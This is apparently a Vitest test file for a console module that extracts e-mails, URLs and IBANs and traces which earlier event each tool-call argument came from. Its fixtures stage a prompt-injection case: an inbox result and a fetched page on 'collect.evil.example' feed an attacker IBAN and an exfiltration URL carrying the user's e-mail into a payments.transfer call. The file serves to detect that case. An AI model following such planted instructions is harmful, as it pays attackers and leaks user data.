/** The console's value finder and tracing: the browser half of the "Why" chain on a task page. */
import { describe, expect, it } from 'vitest'
// @ts-expect-error plain browser module without type declarations
import { argumentValues, excerpt, findValues, traceValues, userRequest } from './provenance.js'

interface Found { kind: string; value: string; start: number; end: number; host?: string }
interface Traced { value: Found; source?: { where: string; event: { event_id: string }; hit: Found } }

const event = (event_id: string, fields: Record<string, string>) => ({ event_id, kind: 'tool_invocation', tool_name: '', tool_arguments: '', tool_result: '', content: '', ...fields })

describe('console provenance', () => {
  it('finds e-mails, URLs with their hosts, IBANs (spaced or not) and numbers of six digits or more', () => {
    const found = findValues('Mail bob@corp.example, see https://x.example/a?b=1. Pay GB33 BUKB 2020 1555 5555 55 ref 123-456, 84.20 EUR on 2024-05-01.') as Found[]
    expect(found.map(({ kind, value }) => [kind, value])).toEqual([
      ['email', 'bob@corp.example'],
      ['url', 'https://x.example/a?b=1'],
      ['iban', 'GB33BUKB20201555555555'],
      ['number', '123456'],
    ])
    expect(found[1].host).toBe('x.example')
  })

  it('reads argument values from JSON leaves, each once', () => {
    const values = argumentValues('{"iban":"GB33BUKB20201555555555","amount":2000,"cc":["a@b.example","a@b.example"],"ref":1234567}') as Found[]
    expect(values.map((v) => v.value)).toEqual(['GB33BUKB20201555555555', 'a@b.example', '1234567'])
  })

  it('cuts an excerpt around the value on one line, marking what was left out', () => {
    const text = `${'x'.repeat(100)}\nsend to GB33BUKB20201555555555\nnow${'y'.repeat(100)}`
    const start = text.indexOf('GB33')
    expect(excerpt(text, start, start + 22, 10)).toEqual({ before: '…x send to ', match: 'GB33BUKB20201555555555', after: ' nowyyyyyy…' })
  })

  it("attributes a value to the user's request over an earlier tool result, and otherwise to the earliest text", () => {
    const events = [
      event('mail', { tool_name: 'email.read_inbox', tool_result: 'pay GB33 BUKB 2020 1555 5555 55 and DE89370400440532013000' }),
      event('ask', { kind: 'prompt', content: 'system: be brief\nuser: Pay DE89 3704 0044 0532 0130 00 please' }),
      event('page', { tool_name: 'web.fetch', tool_result: 'open https://collect.evil.example/c?d= now' }),
      event('pay', { tool_name: 'payments.transfer', tool_arguments: '{"iban":"GB33BUKB20201555555555","to":"DE89370400440532013000","url":"https://collect.evil.example/c?d=me@corp.example"}' }),
      event('later', { kind: 'prompt', content: 'user: GB33BUKB20201555555555' }),
    ]
    const traced = traceValues(events[3], events) as Traced[]
    expect(traced.map((t) => [t.value.value, t.source?.event.event_id, t.source?.where])).toEqual([
      ['GB33BUKB20201555555555', 'mail', 'result'],
      ['DE89370400440532013000', 'ask', 'user'],
      ['https://collect.evil.example/c?d=me@corp.example', 'page', 'result'],
    ])
    expect(userRequest(events[3], events)).toBe('Pay DE89 3704 0044 0532 0130 00 please')
  })
})
